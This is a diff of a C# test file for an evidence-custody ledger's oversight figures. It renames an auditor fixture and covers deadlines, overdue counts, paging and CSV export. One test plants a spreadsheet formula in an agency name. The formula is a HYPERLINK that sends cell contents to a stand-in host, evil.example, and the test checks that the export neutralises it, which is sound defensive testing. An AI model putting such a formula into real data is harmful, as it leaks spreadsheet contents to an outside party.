@@ -1,6 +1,4 @@
 using System.Text;
-using Integrity.Custody;
-using Integrity.Identifiers;
 using Integrity.Ledger.Tests.Http;
 using Integrity.Ledger.Tests.Reminders;
 using Integrity.Testing;
@@ -14,14 +12,11 @@ public sealed class FigureFacts
 {
     private static readonly DateTimeOffset Morning = new(2026, 11, 3, 6, 0, 0, TimeSpan.Zero);
 
-    private static readonly TestAgency Audit = new(
-        AgencyId.Parse("cn.331024.audit").OrThrow(), "监督处", Cast.Key("audit"), [new("331024-9001", Cast.Key("auditor"), Roles.Auditor)]);
-
     /// <summary>
     /// Police: collected by one investigator where two are asked (COL-01, curable), with a witness who does not say to be independent (COL-04, curable);
     /// sealed, offered. Lab: accepted, unsealed, acquired with a mismatch, which is a warning.
     /// </summary>
-    private static History Small() => History.WithAgencies().Create(Audit)
+    private static History Small() => History.WithAgencies().Create(Auditors)
         .Do("collect", Cast.Police, null, Cast.Zhang)
         .Do("seal", Cast.Police)
         .Do("transfer.offer", Cast.Police)
@@ -36,7 +31,7 @@ public sealed class FigureFacts
         await using var ledger = await StartAsync(clock);
         var history = Small();
         await ledger.PlayAsync(history, "log");
-        var auditor = Token(Audit.Officers[0], Audit, clock);
+        var auditor = Token(Auditors.Officers[0], Auditors, clock);
 
         var before = await FiguresAsync(ledger, auditor);
         Assert.Equal(("2026-10-05", "2026-11-03", "UTC+08:00"), (before.GetProperty("from").GetString(), before.GetProperty("to").GetString(), before.GetProperty("offset").GetString()));
@@ -66,23 +61,23 @@ public sealed class FigureFacts
     {
         var clock = new SetClock(new(2026, 11, 2, 6, 0, 0, TimeSpan.Zero));
         await using var ledger = await StartAsync(clock);
-        var history = History.WithAgencies().Create(Audit).Do("collect", Cast.Police);
+        var history = History.WithAgencies().Create(Auditors).Do("collect", Cast.Police);
         await ledger.PlayAsync(history, "log");
 
         // The seizure ended on 2 November at 01:40, so it is to be deposited by the 3rd at 01:40: 09:40 in UTC+08:00.
         const string Third = "?from=2026-11-03&to=2026-11-03";
-        var running = await FiguresAsync(ledger, Token(Audit.Officers[0], Audit, clock), Third);
+        var running = await FiguresAsync(ledger, Token(Auditors.Officers[0], Auditors, clock), Third);
         Assert.Equal(("0/0", "0"), (Tally(Figure(running, "terms-met")), Tally(Figure(running, "overdue"))));
         Assert.False(Figure(running, "terms-met").GetProperty("total").TryGetProperty("share", out _));
         clock.Now = new(2026, 11, 3, 1, 40, 1, TimeSpan.Zero);
-        var overdue = await FiguresAsync(ledger, Token(Audit.Officers[0], Audit, clock), Third);
+        var overdue = await FiguresAsync(ledger, Token(Auditors.Officers[0], Auditors, clock), Third);
         Assert.Equal(("0/1", "deposit=1"), (Tally(Figure(overdue, "terms-met")), Parts(Figure(overdue, "overdue"))));
-        Assert.Equal("0/0", Tally(Figure(await FiguresAsync(ledger, Token(Audit.Officers[0], Audit, clock), "?from=2026-11-02&to=2026-11-02"), "terms-met")));
+        Assert.Equal("0/0", Tally(Figure(await FiguresAsync(ledger, Token(Auditors.Officers[0], Auditors, clock), "?from=2026-11-02&to=2026-11-02"), "terms-met")));
 
         history.Now = new(2026, 11, 4, 1, 0, 0, TimeSpan.Zero);
         clock.Now = history.Now;
         Assert.Equal(201, (await ledger.PostAsync(history.Prepare("deposit", Cast.Police))).Status);
-        var late = await FiguresAsync(ledger, Token(Audit.Officers[0], Audit, clock), Third);
+        var late = await FiguresAsync(ledger, Token(Auditors.Officers[0], Auditors, clock), Third);
         Assert.Equal(("0/1", "0"), (Tally(Figure(late, "terms-met")), Tally(Figure(late, "overdue"))));
     }
 
@@ -109,7 +104,7 @@ public sealed class FigureFacts
             Assert.Equal("access.no-token", (await ledger.GetAsync(path)).Code);
         }
 
-        Assert.Equal("3", Tally(Figure(await FiguresAsync(ledger, Token(Audit.Officers[0], Audit, clock), "?agency=cn.331024.lab"), "steps")));
+        Assert.Equal("3", Tally(Figure(await FiguresAsync(ledger, Token(Auditors.Officers[0], Auditors, clock), "?agency=cn.331024.lab"), "steps")));
     }
 
     [Fact]
@@ -118,7 +113,7 @@ public sealed class FigureFacts
         var clock = new SetClock(Morning);
         await using var ledger = await LiveLedger.StartAsync(change: o => o with { Clock = clock });
         await ledger.PlayAsync(Small(), "log");
-        var view = await FiguresAsync(ledger, Token(Audit.Officers[0], Audit, clock));
+        var view = await FiguresAsync(ledger, Token(Auditors.Officers[0], Auditors, clock));
         Assert.Equal(("cn.331024.audit", true), (view.GetProperty("agency").GetString(), view.GetProperty("ownOnly").GetBoolean()));
         Assert.Equal("0", Tally(Figure(view, "steps")));
         Assert.Equal("0/0", Tally(Figure(view, "compliance")));
@@ -133,7 +128,7 @@ public sealed class FigureFacts
         var clock = new SetClock(Morning);
         await using var ledger = await StartAsync(clock);
         await ledger.PlayAsync(Small(), "log");
-        var auditor = Token(Audit.Officers[0], Audit, clock);
+        var auditor = Token(Auditors.Officers[0], Auditors, clock);
         _ = await FiguresAsync(ledger, auditor);
         var reply = await ledger.GetAsync($"v1/oversight/items?figure=compliance&which={which}", token: auditor);
         Assert.True(reply.Status == 200, reply.ToString());
@@ -160,8 +155,8 @@ public sealed class FigureFacts
     {
         var clock = new SetClock(Morning);
         await using var ledger = await StartAsync(clock);
-        await ledger.PlayAsync(History.WithAgencies().Create(Audit));
-        var reply = await ledger.GetAsync(path, token: Token(Audit.Officers[0], Audit, clock));
+        await ledger.PlayAsync(History.WithAgencies().Create(Auditors));
+        var reply = await ledger.GetAsync(path, token: Token(Auditors.Officers[0], Auditors, clock));
         Assert.Equal((400, code), (reply.Status, reply.Code));
     }
 
@@ -171,9 +166,9 @@ public sealed class FigureFacts
         var clock = new SetClock(Morning);
         await using var ledger = await StartAsync(clock);
         var sly = Cast.Police with { Name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"仙居\")" };
-        var history = new History().Create(sly).Create(Cast.Lab).Create(Audit).Do("collect", Cast.Police);
+        var history = new History().Create(sly).Create(Cast.Lab).Create(Auditors).Do("collect", Cast.Police);
         await ledger.PlayAsync(history, "log");
-        var auditor = Token(Audit.Officers[0], Audit, clock);
+        var auditor = Token(Auditors.Officers[0], Auditors, clock);
         _ = await FiguresAsync(ledger, auditor);
         var csv = Encoding.UTF8.GetString((await ledger.GetAsync("v1/oversight?format=csv", token: auditor)).Body);
         Assert.Contains("\"'=HYPERLINK(\"\"https", csv, StringComparison.Ordinal);
@@ -186,7 +181,7 @@ public sealed class FigureFacts
         var clock = new SetClock(Morning);
         await using var ledger = await StartAsync(clock);
         await ledger.PlayAsync(Small(), "log");
-        var auditor = Token(Audit.Officers[0], Audit, clock);
+        var auditor = Token(Auditors.Officers[0], Auditors, clock);
         _ = await FiguresAsync(ledger, auditor);
         var after = Uri.EscapeDataString($"{Morning.AddHours(1).ToUnixTimeMilliseconds()}|item/EV-0000-0000-0000-0000-~|0|seal");
         var reply = await ledger.GetAsync($"v1/oversight/items?figure=steps&after={after}", token: auditor);
@@ -207,7 +202,7 @@ public sealed class FigureFacts
         var clock = new SetClock(Morning);
         const string Rows = "SELECT stream, kind, seq, name, agency, at, day, state, value, log_index, since FROM oversight_mark ORDER BY 1, 2, 3, 4";
         await using var ledger = await StartAsync(clock);
-        var history = Story.WithImage().Create(Audit);
+        var history = Story.WithImage().Create(Auditors);
         foreach (var statement in history.Log)
         {
             // Each round then has one statement at most.
@@ -215,7 +210,7 @@ public sealed class FigureFacts
             Assert.True(reply.Status is 200 or 201, reply.ToString());
         }
 
-        var auditor = Token(Audit.Officers[0], Audit, clock);
+        var auditor = Token(Auditors.Officers[0], Auditors, clock);
         _ = await FiguresAsync(ledger, auditor);
         var before = await RowsAsync(ledger, Rows);
         Assert.True(before.Count > 15, string.Join('\n', before));
@@ -232,8 +227,8 @@ public sealed class FigureFacts
     {
         var clock = new SetClock(Morning);
         await using var ledger = await StartAsync(clock);
-        await ledger.PlayAsync(History.WithAgencies().Create(Audit), "log");
-        _ = await FiguresAsync(ledger, Token(Audit.Officers[0], Audit, clock));
+        await ledger.PlayAsync(History.WithAgencies().Create(Auditors), "log");
+        _ = await FiguresAsync(ledger, Token(Auditors.Officers[0], Auditors, clock));
         var (planted, writing) = (3, false);
         ledger.Probe.Hook = at =>
         {
@@ -244,10 +239,7 @@ public sealed class FigureFacts
             }
         };
         await ledger.PlayAsync(Small(), "log");
-        Assert.Equal("6", Tally(Figure(await FiguresAsync(ledger, Token(Audit.Officers[0], Audit, clock)), "steps")));
+        Assert.Equal("6", Tally(Figure(await FiguresAsync(ledger, Token(Auditors.Officers[0], Auditors, clock)), "steps")));
         Assert.True(planted < 3);
     }
-
-    private static Task<LiveLedger> StartAsync(SetClock clock) => LiveLedger.StartAsync(
-        change: o => o with { Clock = clock, Auditors = new Dictionary<string, string> { [Audit.Id.ToString()] = Audit.Root.Public.Kid } });
 }
